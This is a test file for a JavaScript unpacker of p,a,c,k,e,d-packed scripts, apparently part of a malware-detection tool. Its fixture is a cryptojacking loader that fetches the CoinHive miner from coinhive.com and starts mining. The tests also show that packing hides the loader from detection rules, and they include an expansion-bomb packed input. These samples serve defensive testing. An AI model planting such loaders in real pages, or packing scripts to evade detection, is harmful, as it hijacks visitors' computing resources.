// Tests the p,a,c,k,e,d unpacker on scripts packed by the test's own copy of Dean Edwards' packer,
// each run once in a vm sandbox to prove the packed form yields the source.
import vm from 'node:vm';
import { describe, expect, it } from 'vitest';
import { decodePacker, unpack } from './packer.js';
import { pack } from './test-helpers.js';
import { Budget, DEFAULT_NORMALISE_LIMITS } from './types.js';

const budget = (bytes = 8 << 20): Budget => new Budget(DEFAULT_NORMALISE_LIMITS, bytes);

const LOADER = [
  "var s = document.createElement('script');",
  "s.src = 'https://coinhive.com/lib/coinhive.min.js';",
  "s.onload = function () { var miner = new CoinHive.Anonymous('SITE_KEY', { throttle: 0.3 }); miner.start(); };",
  'document.head.appendChild(s);',
].join('\n');

/** What the packed script hands to eval, computed by running it with eval swapped for a capture. */
function packedSource(packed: string): string {
  const ctx = vm.createContext({});
  vm.runInContext(`globalThis.out = ${packed.replace(/^eval/, '')}`, ctx, { timeout: 1000 });
  return (ctx as { out: string }).out;
}

describe('decodePacker', () => {
  it('unpacks a packed loader in place, as the packer itself would', () => {
    const packed = pack(LOADER);
    expect(packedSource(packed)).toBe(LOADER);
    // The word list keeps the names, but no longer next to each other: the rules see nothing.
    expect(packed).not.toContain('CoinHive.Anonymous');
    expect(packed).not.toContain('coinhive.min.js');
    const page = `/* theme */ var a = 1;\n${packed}\nvar b = 2;`;
    const [step] = decodePacker(page, budget());
    expect(step?.technique).toBe('js-packer');
    expect(step?.text).toBe(`/* theme */ var a = 1;\n${LOADER}\nvar b = 2;`);
    expect(step?.spans).toEqual([[23, 23 + LOADER.length]]);
  });

  it('unpacks a script packed twice, one layer per call', () => {
    const twice = pack(pack(LOADER));
    const once = decodePacker(twice, budget())[0]?.text ?? '';
    expect(once).toBe(pack(LOADER));
    expect(decodePacker(once, budget())[0]?.text).toBe(LOADER);
  });

  it('reports an unpacked script larger than the budget instead of producing it', () => {
    const b = budget(100);
    expect(decodePacker(pack(LOADER), b)).toEqual([]);
    expect(b.bombs[0]).toBe(
      'js-packer: unpacked script exceeds the 100-byte output budget left, not followed',
    );
  });

  it('stops unpacking a short payload that repeats one long word, without building it', () => {
    const bomb = `eval(function(p,a,c,k,e,d){return p}('${'0 '.repeat(100_000)}',62,1,'${'A'.repeat(10_000)}'.split('|'),0,{}))`;
    const b = budget(8 << 20);
    const started = Date.now();
    expect(decodePacker(bomb, b)).toEqual([]);
    expect(Date.now() - started).toBeLessThan(1000);
    expect(b.bombs).toEqual([
      'js-packer: unpacked script exceeds the 8388608-byte output budget left, not followed',
    ]);
  });

  it('reads the packer digits in bases up to 62 and refuses other radixes', () => {
    expect(
      unpack(
        '0 1 a Z 10',
        62,
        63,
        [...Array(63).keys()].map((i) => `w${i}`),
      ),
    ).toBe('w0 w1 w10 w61 w62');
    expect(unpack('0', 95, 1, ['x'])).toBeUndefined();
  });
});
